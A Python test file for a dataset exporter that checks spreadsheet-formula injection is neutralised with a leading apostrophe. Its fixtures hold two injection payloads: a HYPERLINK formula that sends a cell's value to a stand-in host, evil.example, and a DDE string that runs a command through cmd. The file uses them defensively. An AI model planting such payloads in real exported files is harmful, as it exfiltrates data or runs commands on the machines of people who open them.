"""Cells that a spreadsheet would run: inert where nobody compares them, else told."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest

from oodexp.export.base import Content
from oodexp.export.cell import inert, is_formula
from oodexp.export.vlmevalkit import VLMEvalKit
from oodexp.vlm.recorded import Recorded
from tests.export import made

CLASS = '=HYPERLINK("//evil.example/?"&A1,"dog")'
IMAGE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1"])
def test_a_cell_that_would_run_gets_an_apostrophe(text):
    assert is_formula(text)
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "dog", " =1", "'=1", "1-1", "traffic light"])
def test_another_cell_stays_as_it_is(text):
    assert inert(text) == text


def hostile() -> Content:
    """The run of `made` with a class and an image id that are formulas; one prompt is one, too."""
    plain = made.content()
    change = {"category": {"dog": CLASS}, "image_id": {made.CLIMB: IMAGE}}
    tables = {
        name: getattr(plain, name).replace({c: v for c, v in change.items() if c in frame})
        for name, frame in vars_of(plain).items()
    }
    asked = tables["questions"]
    first = asked.index[0]
    asked.loc[first, "prompt"] = f"{CLASS}: is there one?"
    names = {IMAGE: made.CLIMB}
    return replace(
        plain, **tables, read=lambda source, image: plain.read(source, names.get(image, image))
    )


def vars_of(content: Content) -> dict[str, pd.DataFrame]:
    names = ("questions", "memberships", "pairs", "images")
    return {name: getattr(content, name) for name in names}


def read(folder: Path) -> pd.DataFrame:
    """All rows, as VLMEvalKit and others read them."""
    files = sorted(folder.glob("*.tsv"))
    return pd.concat([pd.read_csv(f, sep="\t", dtype=str, keep_default_na=False) for f in files])


def test_what_is_compared_stays_and_names_of_classes_are_inert(tmp_path):
    content = hostile()
    VLMEvalKit(population="all").write(tmp_path, content)
    rows = read(tmp_path).set_index("question_id")
    asked = content.questions.set_index("question_id").loc[rows.index]
    assert rows["question"].tolist() == asked["prompt"].tolist()
    assert rows["image_id"].tolist() == asked["image_id"].tolist()
    assert rows["answer"].str.lower().tolist() == asked["target"].tolist()
    assert rows["class_name"].tolist() == [inert(name) for name in asked["category"]]
    for column in ("category", "l2-category", "class_name"):
        assert not any(map(is_formula, rows[column]))
    assert rows["class_name"].str.startswith("'=HYPERLINK").any()


def test_the_data_card_tells_how_many_cells_are_left(tmp_path):
    VLMEvalKit(population="all").write(tmp_path / "hostile", hostile())
    rows = read(tmp_path / "hostile")
    columns = ("question", "answer", "question_id", "image_id")
    often = sum(is_formula(text) for column in columns for text in rows[column])
    assert often > 1
    card = (tmp_path / "hostile/README.md").read_text("utf-8")
    assert f"**{often} cells begin with a sign that a spreadsheet takes for a formula.**" in card
    VLMEvalKit(population="all").write(tmp_path / "plain", made.content())
    assert "formula" not in (tmp_path / "plain/README.md").read_text("utf-8")


def test_predictions_of_such_a_file_are_read_back(tmp_path):
    VLMEvalKit(population="all").write(tmp_path, hostile())
    files = []
    for file in sorted(tmp_path.glob("*.tsv")):
        rows = pd.read_csv(file, sep="\t", dtype=str, keep_default_na=False)
        files.append(str(tmp_path / f"model_{file.name}"))
        rows.assign(prediction="Yes").drop(columns="image").to_csv(files[-1], sep="\t", index=False)
    assert Recorded(files, str(tmp_path)).fingerprint()["kind"] == "recorded"
